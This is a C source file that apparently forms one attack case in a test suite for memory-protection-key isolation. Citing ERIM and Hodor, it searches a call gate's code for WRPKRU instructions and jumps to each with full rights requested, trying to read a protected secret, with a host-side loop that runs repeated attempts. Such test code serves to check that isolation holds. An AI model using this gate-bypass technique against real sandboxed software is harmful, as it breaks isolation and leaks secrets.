/* Tries: to jump to each of the gate's own WRPKRU with all rights asked for, and to read the
 *   secret
 * From: ERIM (Vahldiek-Oberwagner et al., USENIX Security 2019); Hodor (Hedayati et al., USENIX
 *   ATC 2019)
 * Observed: The secret in what the call gave back.
 * Needs: machine-code, keys */
#include "attacks/attack.h"

#ifdef ATTACK_FOREIGN

/* Jumps there with these registers; what comes back comes back here, or not at all. */
static void LOCAL(jump)(uint64_t code, uint64_t rights, uint64_t others)
{
    register uint64_t r8 __asm__("r8") = others;
    __asm__ volatile(
        "mov %0, %%r11\n\tmov %1, %%rax\n\txor %%ecx, %%ecx\n\txor %%edx, %%edx\n\tcall *%%r11"
        :
        : "r"(code), "r"(rights), "S"(others), "D"(others), "r"(r8)
        : "rax", "rcx", "rdx", "r11", "memory");
}

/* The `step`-th WRPKRU of the gate; 0: there are fewer. */
static uint64_t LOCAL(find)(struct attack *at)
{
    uint32_t found = 0;
    for (uint64_t code = at->gate_start; code + 3 <= at->gate_end; code++)
        if (!memcmp(POINTER(const void, code), "\x0f\x01\xef", 3) && found++ == at->step)
            return code;
    return 0;
}

FOREIGN(run)
{
    uint64_t code = at->gate_start ? LOCAL(find)(at) : 0;
    if (code)
        LOCAL(jump)(code, 0, at->canary_page + 2048);
    take(at, at->secret_global);
    return 0;
}

#endif

#ifdef ATTACK_HOST
/* Each call one jump, each after a reset; where nothing isolates there is nothing to jump to. */
HOST(run)
{
    enum og_error error = OG_OK, first = OG_OK;
    struct og_fault fault = {0};
    for (uint32_t step = 0; step < (host->places[PLACE_gate_start] ? 12 : 1); step++) {
        error = host_prepare(host);
        if (!error)
            error = host_call(host, step);
        if (error && !first) {
            first = error;
            fault = host->fault;
        }
        if (error && instance_reset(&host->library.instance, &host->fault))
            return error;
    }
    host->fault = fault;
    return first;
}
#endif
